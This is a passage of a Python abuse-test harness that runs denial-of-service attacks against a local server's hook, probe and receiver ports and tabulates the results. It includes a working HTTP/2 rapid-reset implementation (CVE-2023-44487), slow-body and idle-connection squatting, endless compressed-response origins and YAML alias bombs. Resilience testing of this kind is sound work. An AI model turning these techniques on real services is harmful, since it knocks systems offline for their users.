    while "@sha1:" not in sync() and time.time() < deadline:
        time.sleep(0.2)
    second = commit("V=2\n", 0)
    rolled = None
    deadline = time.time() + 60
    while time.time() < deadline:
        if sync().endswith(second):
            rolled = time.time() - started
            break
        fetches += 1
        time.sleep(0.5)
    outcome = f"the next ordinary commit rolled after {rolled:.1f} s" if rolled else "the next ordinary commit never rolled (60 s)"
    report("a commit dated a day ahead, then an ordinary one (poll interval 10 s)", server, started, outcome)
    finish(server)
    daemon.terminate()


def signed_pushes(receiver, secret, pushes):
    """`pushes` GitHub pushes signed with `secret`, each on a new connection; the codes."""
    import hashlib
    import hmac
    codes = {}
    for i in range(pushes):
        body = json.dumps({"ref": "refs/heads/main", "repository": {"clone_url": f"https://git.example.com/org/r{i}.git"}}).encode()
        signature = "sha256=" + hmac.new(secret, body, hashlib.sha256).hexdigest()
        conn = http.client.HTTPConnection("127.0.0.1", receiver, timeout=10)
        try:
            conn.request("POST", "/receivers/github", body=body, headers={
                "Content-Type": "application/json", "X-Hub-Signature-256": signature, "X-GitHub-Event": "push"})
            code = conn.getresponse().status
        except OSError:
            code = "error"
        conn.close()
        codes[code] = codes.get(code, 0) + 1
    return codes


def attack_receiver_slots(count=16, pushes=6):
    """16 unsigned senders that never finish their bodies, then 6 signed pushes."""
    secret = b"abuse-secret"
    secret_file = tempfile.NamedTemporaryFile(delete=False)
    secret_file.write(secret)
    secret_file.close()
    receiver = free_port()
    server = sourced_server("--receiver-listen", f"127.0.0.1:{receiver}", "--receiver-secret-file", secret_file.name)
    started = time.time()
    stalled = []
    for _ in range(count):
        s = socket.create_connection(("127.0.0.1", receiver))
        s.sendall(b"POST /receivers/github HTTP/1.1\r\nHost: x\r\ncontent-length: 100000\r\n\r\n{")
        stalled.append(s)
    codes = signed_pushes(receiver, secret, pushes)
    for s in stalled:
        s.close()
    report(f"receivers: {count} unsigned stalled senders, then {pushes} signed pushes", server, started,
           f"signed pushes answered {codes}")
    finish(server)
    os.unlink(secret_file.name)


def attack_bounds():
    attack_probe_port()
    attack_hook_port_heads()
    attack_trickled_bodies()
    attack_long_urls()
    attack_path_spellings()
    attack_future_dated()
    attack_receiver_slots()


def attack_sources():
    attack_exfiltration()
    attack_ref_flood(http=False)
    attack_ref_flood(http=True)
    attack_blob_bomb()
    attack_delta_bomb()
    attack_tarpits()
    attack_many_http_sources()
    attack_disk_cap()


# --- Squatting: connections, origin bytes, body shares (issue 55) ---------------------

def connect_from(source, port, timeout=5):
    """A connection to 127.0.0.1:`port` from the loopback address `source` (each one a
    peer of its own to the server)."""
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    return s


def read_answer(s):
    """Reads one HTTP/1.1 answer with a content-length; its status code."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            raise OSError("closed")
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(body) < length:
        chunk = s.recv(65536)
        if not chunk:
            raise OSError("closed")
        body += chunk
    return int(head.split(b" ")[1])


SMALL_SYNC = apimock_request("openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths: {}\n", name="honest")


def sync_bytes(body, close):
    return (b"POST /apimock/sync HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            + f"Content-Length: {len(body)}\r\nConnection: {'close' if close else 'keep-alive'}\r\n\r\n".encode() + body)


def raise_open_files():
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def probe_series(port, path, seconds, every, from_="127.0.0.1"):
    """New connection per probe, 1 s timeout (as kubelet probes); (ok, asked)."""
    ok = asked = 0
    stop = time.time() + seconds
    while time.time() < stop:
        asked += 1
        try:
            s = connect_from(from_, port, timeout=1)
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            ok += 1 if read_answer(s) == 200 else 0
            s.close()
        except OSError:
            pass
        time.sleep(every)
    return ok, asked


def readyz_watch(server, stop, seen):
    while time.time() < stop:
        try:
            code = get(server.probe, "/readyz", timeout=1)[0]
        except OSError:
            code = "error"
        seen[code] = seen.get(code, 0) + 1
        time.sleep(0.5)


def attack_idle_probe_connections(count=64):
    """64 connections to the probe port that each ask /healthz once and stay open, idle;
    then kubelet-style probes (a new connection each, 1 s timeout) for 25 s."""
    raise_open_files()
    server = Server()
    server.sampler = Sampler(server)
    started = time.time()
    held = []
    for i in range(count):
        s = connect_from(f"127.0.1.{i % 4 + 1}", server.probe)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        read_answer(s)
        held.append(s)
    ok, asked = probe_series(server.probe, "/readyz", 25, 0.25)
    for s in held:
        s.close()
    report(f"probe port: {count} idle kept-alive connections (4 addresses)", server, started,
           f"new probes answered 200 within 1 s: {ok}/{asked}")
    finish(server)


def attack_idle_hook_connections(count=1024, addresses=8):
    """1024 hook connections from 8 addresses that each make one sync and stay open,
    idle; then an honest sync on a new connection every 0.3 s for 25 s, /readyz watched."""
    raise_open_files()
    server = Server()
    server.sampler = Sampler(server)
    started = time.time()
    held = []
    request = sync_bytes(SMALL_SYNC, close=False)
    for i in range(count):
        try:
            s = connect_from(f"127.0.2.{i % addresses + 1}", server.hook)
            s.sendall(request)
            read_answer(s)
            held.append(s)
        except OSError:
            pass
    seen = {}
    watcher = threading.Thread(target=readyz_watch, args=(server, time.time() + 25, seen))
    watcher.start()
    ok = asked = 0
    stop = time.time() + 25
    honest = sync_bytes(SMALL_SYNC, close=True)
    while time.time() < stop:
        asked += 1
        try:
            s = connect_from("127.0.0.1", server.hook, timeout=5)
            s.sendall(honest)
            ok += 1 if read_answer(s) == 200 else 0
            s.close()
        except OSError:
            pass
        time.sleep(0.3)
    watcher.join()
    for s in held:
        s.close()
    report(f"hook port: {count} idle connections after one sync each ({addresses} addresses)", server, started,
           f"honest syncs on new connections answered 200: {ok}/{asked}; /readyz {seen}",
           f"{len(held)} held")
    finish(server)


def tls_files():
    directory = tempfile.mkdtemp(prefix="metahooks-abuse-tls-")
    cert, key = f"{directory}/tls.crt", f"{directory}/tls.key"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", cert,
                    "-days", "1", "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"],
                   check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return cert, key


def h2_frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


# HPACK without Huffman: :method POST (3), :scheme https (7), :path as a literal with
# the indexed name :path (4), :authority likewise (1).
def h2_headers(path):
    literal = lambda index, value: bytes([index]) + bytes([len(value)]) + value
    return b"\x83\x87" + literal(4, path) + literal(1, b"localhost")


def h2_connection(port):
    import ssl
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=60)
    s = context.wrap_socket(raw, server_hostname="localhost")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0))
    return s


def attack_idle_h2(count=40, idle=15):
    """40 HTTP/2 connections over TLS that each send one request and then nothing, with
    --idle-timeout-seconds 15: when does the server close them?"""
    cert, key = tls_files()
    server = Server("--tls-cert-file", cert, "--tls-key-file", key, "--idle-timeout-seconds", str(idle))
    server.sampler = Sampler(server)
    started = time.time()
    closed_at = []
    lock = threading.Lock()

    def one():
        try:
            s = h2_connection(server.hook)
            body = SMALL_SYNC
            s.sendall(h2_frame(1, 0x4, 1, h2_headers(b"/apimock/sync")) + h2_frame(0, 0x1, 1, body))
            while s.recv(65536):
                pass
        except OSError:
            pass
        with lock:
            closed_at.append(time.time() - started)

    threads = [threading.Thread(target=one, daemon=True) for _ in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=90)
    report(f"HTTP/2 over TLS: {count} connections idle after one request, idle timeout {idle} s", server, started,
           f"{len(closed_at)}/{count} closed by the server, between {min(closed_at or [0]):.1f} and {max(closed_at or [0]):.1f} s")
    finish(server)


def attack_h2_rapid_reset(connections=20, streams=5000):
    """HTTP/2 over TLS: each connection opens streams and resets them at once (CVE-2023-44487),
    while a client syncs over HTTP/1.1."""
    cert, key = tls_files()
    server = Server("--tls-cert-file", cert, "--tls-key-file", key)
    server.sampler = Sampler(server)
    started = time.time()
    goaway = [0]
    sent = [0]
    lock = threading.Lock()

    def one():
        try:
            s = h2_connection(server.hook)
            batch = b"".join(h2_frame(1, 0x4, 2 * i + 1, h2_headers(b"/apimock/sync"))
                             + h2_frame(3, 0, 2 * i + 1, (8).to_bytes(4, "big")) for i in range(streams))
            s.sendall(batch)
            with lock:
                sent[0] += streams
            data = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
                if b"\x07\x00\x00\x00\x00\x00" in data:
                    with lock:
                        goaway[0] += 1
                    break
        except OSError:
            pass

    cpu_before = server.cpu_seconds()
    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    cpu = server.cpu_seconds() - cpu_before
    import ssl
    honest = 0
    for _ in range(20):
        conn = http.client.HTTPSConnection("127.0.0.1", server.hook, timeout=5,
                                           context=ssl._create_unverified_context())
        try:
            conn.request("POST", "/apimock/sync", body=SMALL_SYNC, headers={"Content-Type": "application/json"})
            honest += 1 if conn.getresponse().status == 200 else 0
        except (OSError, http.client.HTTPException):
            pass
        conn.close()
    report(f"HTTP/2 over TLS: rapid reset, {connections} connections x {streams} streams", server, started,
           f"GOAWAY on {goaway[0]}/{connections}; server CPU {cpu:.2f} s; honest syncs after 200: {honest}/20",
           f"{sent[0]} streams sent")
    finish(server)


def attack_idle_receivers(count=64, pushes=8):
    """64 receiver connections that each send one unsigned push (401) and stay open,
    then 8 signed pushes on new connections."""
    secret = b"abuse-secret"
    secret_file = tempfile.NamedTemporaryFile(delete=False)
    secret_file.write(secret)
    secret_file.close()
    receiver = free_port()
    server = sourced_server("--receiver-listen", f"127.0.0.1:{receiver}", "--receiver-secret-file", secret_file.name)
    started = time.time()
    held = []
    unsigned = b'{"repository": {"clone_url": "https://git.example.com/o/r.git"}}'
    for i in range(count):
        s = connect_from(f"127.0.3.{i % 8 + 1}", receiver)
        s.sendall(b"POST /receivers/github HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  + f"Content-Length: {len(unsigned)}\r\n\r\n".encode() + unsigned)
        read_answer(s)
        held.append(s)
    codes = signed_pushes(receiver, secret, pushes)
    for s in held:
        s.close()
    report(f"receivers: {count} idle connections after one unsigned push each", server, started,
           f"signed pushes on new connections answered {codes}")
    finish(server)
    os.unlink(secret_file.name)


ENDLESS = {
    "gzip header whose file name never ends": (
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nConnection: close\r\n\r\n\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\xff",
        b"a" * 65536),
    "endless empty deflate blocks": (
        b"HTTP/1.1 200 OK\r\nContent-Encoding: deflate\r\nConnection: close\r\n\r\n\x78\x01",
        b"\x00\x00\x00\xff\xff" * 13107),
    "endless 100 Continue heads": (b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 2048),
}


def endless_origin(head, piece, sent, lock):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)

    def serve(conn):
        try:
            conn.recv(65536)
            conn.sendall(head)
            while True:
                conn.sendall(piece)
                with lock:
                    sent[0] += len(piece)
        except OSError:
            pass
        finally:
            conn.close()

    def accept():
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=serve, args=(conn,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return listener


def hook_p99(server, seconds):
    """p99 of honest APIMock syncs, one at a time, for `seconds`."""
    times = []
    stop = time.time() + seconds
    while time.time() < stop:
        t0 = time.time()
        try:
            post(server.hook, "/apimock/sync", SMALL_SYNC, timeout=10)
        except OSError:
            pass
        times.append(time.time() - t0)
        time.sleep(0.02)
    times.sort()
    return times[int(len(times) * 0.99) - 1] * 1000 if times else 0


def attack_endless_origins(sources=8):
    """8 HTTP sources on an origin that sends without end, for each way of sending
    nothing useful; what the origin got out, the server's CPU, and the p99 of honest
    hook calls beside it against the same server's before."""
    for name, (head, piece) in ENDLESS.items():
        sent, lock = [0], threading.Lock()
        origin = endless_origin(head, piece, sent, lock)
        port = origin.getsockname()[1]
        server = sourced_server()
        baseline = hook_p99(server, 5)
        started = time.time()
        cpu_before = server.cpu_seconds()
        requests = [service_request(f"e{i}", {"http": {"url": f"http://127.0.0.1:{port}/app{i}.env"}}, interval=10)
                    for i in range(sources)]
        outcomes = {}
        during = [0.0]
        measuring = threading.Thread(target=lambda: during.__setitem__(0, hook_p99(server, 15)))
        measuring.start()
        for request in requests:
            outcome, _ = sync_until_fetched(server, request, limit=60)
            outcomes[outcome] = outcomes.get(outcome, 0) + 1
        measuring.join()
        cpu = server.cpu_seconds() - cpu_before
        report(f"{sources} HTTP sources on an origin: {name}", server, started,
               f"{outcomes}; server CPU {cpu:.1f} s; honest hook p99 {baseline:.1f} ms before, {during[0]:.1f} ms during",
               f"origin got out {sent[0] / 2**20:.0f} MiB")
        finish(server)
        origin.close()


def attack_body_shares(connections=5, rounds=3):
    """One address holds 5 bodies of 32 MiB open (all but the last byte, until 408), again
    and again, while another address syncs: how many of its calls get 429?"""
    server = Server("--body-read-timeout-seconds", "5")
    server.sampler = Sampler(server)
    started = time.time()
    stop = time.time() + 5 * rounds + 3
    declared = 32 * 1024 * 1024
    answers = {}
    lock = threading.Lock()

    def hold():
        while time.time() < stop:
            try:
                s = connect_from("127.0.4.1", server.hook, timeout=30)
                s.sendall(b"POST /apimock/sync HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                          + f"Content-Length: {declared}\r\n\r\n".encode())
                chunk = b" " * (1 << 20)
                for _ in range(31):
                    s.sendall(chunk)
                s.sendall(b" " * ((1 << 20) - 1))
                code = read_answer(s)
            except OSError:
                code = "closed"
            with lock:
                answers[code] = answers.get(code, 0) + 1

    holders = [threading.Thread(target=hold, daemon=True) for _ in range(connections)]
    for t in holders:
        t.start()
    codes = {}
    honest = sync_bytes(SMALL_SYNC, close=True)
    while time.time() < stop:
        try:
            s = connect_from("127.0.0.1", server.hook, timeout=10)
            s.sendall(honest)
            code = read_answer(s)
            s.close()
        except OSError:
            code = "error"
        codes[code] = codes.get(code, 0) + 1
        time.sleep(0.1)
    for t in holders:
        t.join(timeout=60)
    report(f"body budget: one address holds {connections} bodies of 32 MiB open, again and again", server, started,
           f"another address's syncs: {codes}", f"the holder's calls: {answers}")
    finish(server)


def attack_squatting():
    attack_idle_probe_connections()
    attack_idle_hook_connections()
    attack_idle_h2()
    attack_h2_rapid_reset()
    attack_idle_receivers()
    attack_endless_origins()
    attack_body_shares()


def main():
    # ABUSE_ONLY=sources (or bounds) runs that group alone; ABUSE_ONLY=<function> one attack.
    only = os.environ.get("ABUSE_ONLY")
    if only:
        groups = {"sources": attack_sources, "bounds": attack_bounds, "squatting": attack_squatting}
        (groups.get(only) or globals()[only])()
        return table()
    attack_definition("YAML nested alias bomb (anchors of anchors, 100^6 nodes)", nested_alias_bomb(6, 100, pad=32 * 1024))
    attack_definition("YAML flat alias bomb", flat_alias_bomb(200 * 1024))
    attack_definition("$ref cycle", "openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths:\n  /a:\n    get:\n      parameters: [{$ref: '#/components/parameters/P0'}]\n      responses: {'200': {description: ok}}\ncomponents:\n  parameters:\n    P0: {$ref: '#/components/parameters/P0'}\n")
    big = "openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths:\n" + "".join(
        f"  /p{i}:\n    get:\n      responses:\n        '200': {{description: ok}}\n" for i in range(11000))
    attack_definition("one valid definition near the size limit", big)
    attack_saturation()
    attack_uploads()
    attack_slow_clients()
    attack_tree_bomb()
    attack_sources()
    attack_bounds()
    attack_squatting()
    table()


def table():
    header = ("attack", "peak RSS MiB (server + workers)", "seconds", "outcome", "CPU s in 2 s after", "threads", "remote's side")
    print("| " + " | ".join(header) + " |")
    print("|" + "---|" * len(header))
    for row in ROWS:
        print("| " + " | ".join(row) + " |")


if __name__ == "__main__":
    main()
